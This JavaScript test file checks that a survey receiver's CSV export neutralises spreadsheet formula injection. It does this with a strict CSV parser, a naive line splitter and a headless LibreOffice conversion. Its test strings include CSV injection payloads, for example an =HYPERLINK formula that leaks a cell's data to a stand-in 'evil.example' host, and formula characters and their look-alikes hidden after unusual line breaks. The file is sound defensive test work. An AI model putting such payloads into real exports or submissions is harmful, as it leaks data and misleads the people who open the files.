// @ts-check
// The CSV export as a spreadsheet reads it: every cell one cell (line breaks inside it quoted),
// no cell and no line inside a cell that a spreadsheet would run as a formula. Checked by
// exporting from a real receiver over HTTP and reading the file two ways: with a strict RFC 4180
// parser (csv-parse), and line by line, as a careless importer would.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS, neutraliseFormula } from 'welcomed-receiver';
import { AUTH, makeResponse, startTestReceiver } from './helpers.js';

/** Line breaks as any reader may see them (Unicode's, Python's splitlines, spreadsheets'). */
// eslint-disable-next-line no-control-regex -- the file separators U+001C to U+001E end lines too
const LINE_BREAK = /\r\n|[\n\r\v\f\x1c-\x1e\x85\u2028\u2029]/;
/** What starts a formula in some spreadsheet: = + - @ and tab, and their look-alikes. */
const FORMULA_START = '=+\\-@\\t\uFF1D\uFE66\u207C\u208C\uFF0B\uFE62\u207A\u208A\uFF0D\uFE63\u2212\u207B\u208B\uFF20\uFE6B';

/** The security review's payloads, and their relatives: line breaks of every kind, look-alikes. */
const HOSTILE_TEXT = [
  'Much better than before\n=HYPERLINK("https://evil.example/?leak="&J2,"Click here for a refund")',
  'Much better than before\r=HYPERLINK("https://evil.example","x")',
  'Much better than before\r\n=1+1',
  'Line one\n\n+SUM(1,2)\n-2+3\n@SUM(A1)',
  '\uFF1DHYPERLINK("https://evil.example","full-width equals")',
  'ok\n\uFF0B1+1\n\uFF0D1+1\n\uFF20SUM(1)\n\uFE661+1\n\u22121+1',
  ' =1+1 after a space',
  '\u200B=1+1 after a zero-width space',
  '"=1+1" in quotes\n"=2+2"',
  'tab\n\t=1+1',
  'vertical tab\v=1+1 form feed\f=2+2 separators\u2028=3+3\u2029=4+4 next line\u0085=5+5',
  'An ordinary comment,\nover two lines, with "quotes" and commas.',
];

/** Strips the neutralising apostrophes the export adds, to compare a cell with what was sent. */
function unneutralise(/** @type {string} */ cell) {
  return cell.replace(new RegExp(`(^|${LINE_BREAK.source})'`, 'gu'), '$1');
}

test('the CSV keeps each hostile or multi-line text in one cell, and nothing in it runs as a formula', async (t) => {
  const { url } = await startTestReceiver(t, { listen: true });
  /** @type {Record<string, any>[]} */
  const sent = [];
  for (const [index, text] of HOSTILE_TEXT.entries()) {
    const response = makeResponse({
      comment: text,
      // The panel name is free text too ("Bob\r=1+1" in the review).
      panel: { name: `Bob\r=1+${index}`, email: 'bob@example.org', phone: '+44 1632 960000', consent: true },
      change: index % 2 ? '-1-change' : 'garden-waste-online-2026',
    });
    const reply = await fetch(`${url}/api/responses`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(response),
    });
    assert.ok(reply.ok, `${reply.status} ${await reply.text()}`);
    sent.push(response);
  }

  const reply = await fetch(`${url}/api/responses?format=csv`, { headers: AUTH });
  assert.equal(reply.status, 200);
  const csv = await reply.text();

  // Strict: RFC 4180 quoting, any line break outside quotes ends a record, every record has
  // every column, and each cell is, apostrophes aside, the text that was sent.
  /** @type {string[][]} */
  const records = parse(csv, {
    bom: true,
    record_delimiter: ['\r\n', '\n', '\r'],
    relax_quotes: false,
    relax_column_count: false,
    skip_empty_lines: false,
  });
  assert.deepEqual(records[0], CSV_COLUMNS);
  assert.equal(records.length, sent.length + 1, 'one record per response, and the header');
  const column = (/** @type {string} */ name) => CSV_COLUMNS.indexOf(name);
  for (const record of records.slice(1)) {
    const response = sent.find((candidate) => candidate.id === record[column('id')]);
    assert.ok(response, `a record with an id that was sent: ${record[column('id')]}`);
    assert.equal(unneutralise(record[column('comment')]), response.comment);
    assert.equal(unneutralise(record[column('panel.name')]), response.panel.name);
    assert.equal(unneutralise(record[column('change')]), response.change);
    assert.equal(unneutralise(record[column('panel.phone')]), response.panel.phone);
    for (const cell of record) {
      for (const line of cell.split(LINE_BREAK)) {
        assert.doesNotMatch(line, new RegExp(`^[\\p{Zs}\\p{Cf}"]*[${FORMULA_START}]`, 'u'), `cell line ${JSON.stringify(line)}`);
      }
    }
  }

  // Naive: an importer that splits the file into lines and each line at commas. No physical line
  // starts, after an optional quote, with a formula character.
  const formulaLine = new RegExp(`^"?[${FORMULA_START}]`, 'u');
  const lines = csv.replace(/^\uFEFF/, '').split(LINE_BREAK);
  for (const line of lines) assert.doesNotMatch(line, formulaLine, JSON.stringify(line));
  // Ordinary multi-line comments no longer split rows either: the plain one is intact.
  assert.ok(csv.includes('"An ordinary comment,\nover two lines, with ""quotes"" and commas."'));
});

test('neutraliseFormula leaves ordinary text alone and marks every line that starts a formula', () => {
  for (const text of ['', 'Much better', 'a = b', '2026-11-26', 'email@example.org', 'x\ny', "'=already"]) {
    assert.equal(neutraliseFormula(text), text);
  }
  assert.equal(neutraliseFormula(undefined), '');
  assert.equal(neutraliseFormula(null), '');
  assert.equal(neutraliseFormula(true), 'true');
  assert.equal(neutraliseFormula('=1+1'), "'=1+1");
  assert.equal(neutraliseFormula('a\n=1\r\n+2\r-3'), "a\n'=1\r\n'+2\r'-3");
  assert.equal(neutraliseFormula('\uFF1D1'), "'\uFF1D1");
  assert.equal(neutraliseFormula(' \u200B"@x'), "' \u200B\"@x");
  assert.equal(neutraliseFormula('\tx'), "'\tx");
});

/** LibreOffice's command line, when installed (`apt-get install libreoffice-calc-nogui`). */
const SOFFICE = spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status === 0 ? 'soffice' : null;

/**
 * The rows of the first sheet of a flat ODS file, each a list of its cells: the cell's text (its
 * paragraphs joined by line breaks) and whether it holds a formula.
 * @param {string} xml
 */
function sheetRows(xml) {
  const unescape = (/** @type {string} */ text) =>
    text
      .replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count) => ' '.repeat(Number(count ?? 1)))
      .replace(/<text:tab\/>/g, '\t')
      .replace(/<[^>]+>/g, '')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&amp;/g, '&');
  return [...xml.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)].map(([, row]) =>
    [...row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].flatMap(([, attributes, body = '']) => {
      const cell = {
        text: [...body.matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map(([, paragraph]) => unescape(paragraph)).join('\n'),
        formula: /table:formula=/.test(attributes),
      };
      // Empty cells in a row are written once with a count (the last runs to the sheet's end).
      const repeated = Number(/table:number-columns-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1);
      return Array.from({ length: Math.min(repeated, 64) }, () => cell);
    }),
  );
}

test('LibreOffice Calc opens the export with each hostile comment in one cell of text, evaluating no formula', { skip: SOFFICE ? false : 'LibreOffice is not installed' }, async (t) => {
  const { url } = await startTestReceiver(t, { listen: true });
  const comments = [
    'Much better than before\n=1+1',
    'Much better than before\n=HYPERLINK("https://evil.example/?leak="&L2,"Click for a refund")',
    '\uFF1D1+1 full width',
    'First line\r\n+SUM(2,3)\n-4+5\n@SUM(1,1)',
    'An ordinary comment,\nover two lines.',
  ];
  for (const comment of comments) {
    const response = makeResponse({ comment, panel: { name: 'Bob\r=1+1', consent: true } });
    const reply = await fetch(`${url}/api/responses`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(response) });
    assert.ok(reply.ok);
  }
  const csv = await (await fetch(`${url}/api/responses?format=csv`, { headers: AUTH })).text();

  const folder = mkdtempSync(join(tmpdir(), 'welcomed-calc-'));
  t.after(() => rmSync(folder, { recursive: true, force: true }));
  writeFileSync(join(folder, 'export.csv'), csv);
  // Comma, double quote, UTF-8, from line 1, en-GB, and "Evaluate formulas" on: the worst case.
  const filter = 'CSV:44,34,76,1,,2057,false,false,true,false,false,0,true';
  const converted = spawnSync(
    /** @type {string} */ (SOFFICE),
    ['--headless', '--norestore', `-env:UserInstallation=file://${folder}/profile`, `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', folder, join(folder, 'export.csv')],
    { encoding: 'utf8', timeout: 120_000 },
  );
  assert.equal(converted.status, 0, converted.stderr);
  const rows = sheetRows(readFileSync(join(folder, 'export.fods'), 'utf8')).filter((row) => row.some((cell) => cell.text));
  assert.equal(rows.length, comments.length + 1, 'a header and one row per response: no comment started a row');
  assert.ok(rows.every((row) => row.every((cell) => !cell.formula)), 'no cell holds a formula');
  const column = (/** @type {string} */ name) => rows[0].findIndex((cell) => cell.text === name);
  const shown = rows.slice(1).map((row) => row[column('comment')].text);
  for (const comment of comments) {
    // Line breaks as the cell has them, and the apostrophes the export put before formulas.
    assert.ok(shown.includes(neutraliseFormula(comment.replaceAll('\r\n', '\n'))), `${JSON.stringify(comment)} in ${JSON.stringify(shown)}`);
  }
  for (const row of rows.slice(1)) assert.equal(row[column('panel.name')].text, "Bob\n'=1+1");
});
